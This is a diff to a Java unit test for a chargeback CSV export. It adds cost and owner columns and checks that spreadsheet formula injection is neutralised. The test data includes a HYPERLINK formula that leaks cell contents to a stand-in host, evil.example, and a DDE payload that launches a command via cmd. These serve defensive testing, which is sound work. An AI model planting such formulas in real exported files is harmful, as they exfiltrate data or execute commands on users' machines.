@@ -68,7 +68,7 @@ class ChargebackCsvTest {
         assertThat(csv).startsWith("\"app\",\"appName\",\"businessUnit\",\"costCenter\",\"requests\",");
 
         String number = "\\d+\\.\\d+";
-        String figures = ",1,1200,256,300,0,1500," + number + ",\"USD\",0,0\\.0000,0,0,0";
+        String figures = ",1,1200,256,300,0,1500," + number + "," + number + ",0,\"USD\",0,0\\.0000,0,0,0,,";
         assertThat(line(csv, formula)).matches("\"" + formula
                 + "\",\"'=HYPERLINK\\(\"\"https://evil\\.example/\\?leak=\"\"&A2,\"\"Open\"\"\\)\",\"'\\+SUM\\(1,2\\)\",\"'-1\\+2\""
                 + figures);
@@ -87,21 +87,28 @@ class ChargebackCsvTest {
 
     @Test
     void tabAndCarriageReturnAreNeutralisedAndANegativeCostIsStillANumber() {
-        ChargebackReport.Figures figures = new ChargebackReport.Figures(3, 10, 0, 5, 0, 15, new BigDecimal("-12.50"), 0,
-                null, 0, 0, 0);
+        ChargebackReport.Figures figures = new ChargebackReport.Figures(3, 10, 0, 5, 0, 15, new BigDecimal("-12.50"),
+                new BigDecimal("-12.50"), BigDecimal.ZERO, 0, null, 0, 0, 0);
         Map<String, String> group = new LinkedHashMap<>();
         group.put("app", "\tcmd");
         group.put("appName", "\r=1+1");
         group.put("model", "-cmd|' /C calc'!A0");
+        Map<String, String> idle = new LinkedHashMap<>();
+        idle.put("app", null);
+        idle.put("appName", null);
+        idle.put("model", null);
         ChargebackReport report = new ChargebackReport(LocalDate.parse(DAY), LocalDate.parse(DAY).plusDays(1), "UTC",
-                "USD", List.of("app", "model"), "rollups", List.of(new ChargebackReport.Row(group, figures)), figures);
+                "USD", List.of("app", "model"), "rollups", List.of(new ChargebackReport.Row(group, null, null, figures), new ChargebackReport.Row(idle, "=platform",
+                "idle provisioned capacity", figures)), figures);
 
         String csv = ChargebackCsv.of(report, List.of(ChargebackGrouping.APP, ChargebackGrouping.MODEL));
 
         assertThat(csv).isEqualTo("\uFEFF\"app\",\"appName\",\"model\",\"requests\",\"inputTokens\",\"cachedInputTokens\","
-                + "\"outputTokens\",\"reasoningTokens\",\"totalTokens\",\"cost\",\"currency\",\"estimatedRequests\","
-                + "\"estimatedShare\",\"missingRequests\",\"unpricedRequests\",\"unpricedTokens\"\n"
-                + "\"'\tcmd\",\"'\r=1+1\",\"'-cmd|' /C calc'!A0\",3,10,0,5,0,15,-12.50,\"USD\",0,,0,0,0\n");
+                + "\"outputTokens\",\"reasoningTokens\",\"totalTokens\",\"cost\",\"paygCost\",\"provisionedCost\","
+                + "\"currency\",\"estimatedRequests\",\"estimatedShare\",\"missingRequests\",\"unpricedRequests\","
+                + "\"unpricedTokens\",\"owner\",\"reason\"\n"
+                + "\"'\tcmd\",\"'\r=1+1\",\"'-cmd|' /C calc'!A0\",3,10,0,5,0,15,-12.50,-12.50,0,\"USD\",0,,0,0,0,,\n"
+                + ",,,3,10,0,5,0,15,-12.50,-12.50,0,\"USD\",0,,0,0,0,\"'=platform\",\"idle provisioned capacity\"\n");
     }
 
     private void register(String app, String displayName, String businessUnit, String costCenter) {
